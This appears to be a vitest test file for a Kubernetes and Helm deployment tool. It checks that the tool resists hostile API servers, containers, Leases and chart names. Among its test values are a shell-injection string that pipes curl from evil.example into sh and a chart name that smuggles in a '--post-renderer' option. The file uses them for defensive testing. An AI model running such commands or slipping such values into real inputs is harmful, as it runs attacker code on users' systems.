import { describe, expect, it } from 'vitest';
import { connect } from '../../src/cluster/connect/connect.ts';
import { readAnswer } from '../../src/cluster/connect/read-answer.ts';
import { splitLines } from '../../src/cluster/connect/split-lines.ts';
import type { Connection, MessageStream } from '../../src/cluster/connection.ts';
import { outputIn } from '../../src/cluster/streams/remote-sums.ts';
import { LockProblem } from '../../src/playbooks/runs/lock-problem.ts';
import { chartSource } from '../../src/playbooks/steps/helm/chart.ts';
import { startFakeCluster } from '../support/cluster.ts';

const megabyte = 1024 * 1024;

async function* endless(piece = Buffer.alloc(64 * 1024, 'x')): AsyncGenerator<Buffer> {
  for (;;) yield piece;
}

describe('an API server that is hostile', () => {
  it('does not fill the memory with an answer, nor with a line', async () => {
    await expect(readAnswer(endless(), megabyte)).rejects.toThrow('larger than 1 MiB');
    const lines = splitLines(endless(), megabyte);
    await expect(lines.next()).rejects.toThrow('has no end');
    const many = splitLines(endless(Buffer.from(`${'y'.repeat(900)}\n`)), 1000);
    for (let count = 0; count < 100; count += 1) expect((await many.next()).value).toHaveLength(900);
  });

  it('cuts short what it says of a refusal', async () => {
    const cluster = await startFakeCluster((_, response) => response.writeHead(500).end('z'.repeat(6 * megabyte)));
    const connection = await connect({ kubeconfig: cluster.kubeconfig, sandbox: false });
    const error: Error = await connection.request({ path: '/version' }).catch((thrown) => thrown);
    expect(error.message).toContain('500');
    expect(error.message.length).toBeLessThan(1000);
    connection.close();
    await cluster.close();
  });

  it('cannot send a request, and with it the credentials, to another host', async () => {
    const other = await startFakeCluster();
    const cluster = await startFakeCluster((_, response) =>
      response.writeHead(307, { location: `${other.url}/version` }).end(),
    );
    const connection = await connect({ kubeconfig: cluster.kubeconfig, sandbox: false });
    await expect(connection.request({ path: '/version' })).rejects.toThrow('307');
    await expect(connection.stream({ path: '/version', protocols: ['v5.channel.k8s.io'] })).rejects.toThrow();
    expect(cluster.requests.length).toBeGreaterThan(0);
    expect(other.requests).toEqual([]);
    connection.close();
    await Promise.all([cluster.close(), other.close()]);
  });
});

describe('a container that is hostile', () => {
  it('does not fill the memory in answer to a short question', async () => {
    let closed = false;
    const stream: MessageStream = {
      protocol: 'v5.channel.k8s.io',
      messages: () => endless(Buffer.alloc(256 * 1024, 1)),
      send: async () => {},
      close() {
        closed = true;
      },
    };
    const connection = { stream: async () => stream, closed: new AbortController().signal } as unknown as Connection;
    const place = { namespace: 'x', pod: 'y', container: 'z' };
    await expect(outputIn(connection, place, ['sha256sum', '/a'])).rejects.toThrow('without an end');
    expect(closed).toBe(true);
  });
});

describe('a Lease that is hostile', () => {
  it('puts no command of its own into those that people copy', () => {
    const run = "x'; curl evil.example | sh #\n";
    const said = { system: 'tars', who: 'a', host: 'b', since: '', resourceVersion: '1', why: 'gone', run };
    for (const state of ['held', 'dead'] as const)
      for (const local of [true, false]) {
        const { next } = new LockProblem({ ...said, state, local });
        for (const line of next.filter((one) => one.includes('curl'))) {
          expect(line).toContain(`'x'\\''; curl evil.example | sh # '`);
          expect(line).not.toContain('\n');
        }
      }
  });
});

describe('a chart that is hostile', () => {
  it('is no option of helm', () => {
    const options = { release: 'x', chart: '--post-renderer=/tmp/evil', repo: 'https://charts.example.com' };
    expect(() => chartSource(options, { pathOf: (name) => name })).toThrow('is no name of a chart');
  });
});
